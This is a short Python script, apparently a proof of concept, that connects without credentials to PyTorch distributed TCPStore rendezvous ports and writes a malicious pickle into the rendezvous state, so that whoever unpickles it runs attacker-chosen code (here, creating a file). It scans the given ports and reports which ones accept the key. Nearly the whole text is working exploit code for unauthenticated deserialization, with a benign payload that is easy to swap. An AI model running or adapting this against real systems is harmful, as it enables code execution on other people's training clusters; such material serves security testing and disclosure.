"""Somebody without credentials: has whoever unpickles a rendezvous' state make a file.

python stranger.py ADDRESS FILE RUN_ID PORT...    prints the ports that let it set a key
"""

import base64
import pickle
import socket
import sys
from datetime import timedelta
from pathlib import Path


class Payload:
    """Makes the file when it is unpickled."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return Path.touch, (Path(sys.argv[2]),)  # type: ignore[return-value]


if __name__ == "__main__":
    address, _, run_id, *ports = sys.argv[1:]
    payload = base64.b64encode(pickle.dumps(Payload())).decode()
    for port in ports:
        try:
            socket.create_connection((address, int(port)), 2).close()
            from torch.distributed import TCPStore  # takes its time

            longest = timedelta(seconds=2)
            store = TCPStore(
                address, int(port), is_master=False, timeout=longest, wait_for_workers=False
            )
            for key in (f"torch.rendezvous.{run_id}", "0/0"):
                store.set(key, payload)
            store.get(f"torch.rendezvous.{run_id}")
        except Exception as error:
            print(f"{port}: {error}", file=sys.stderr)
            continue
        print(port, flush=True)
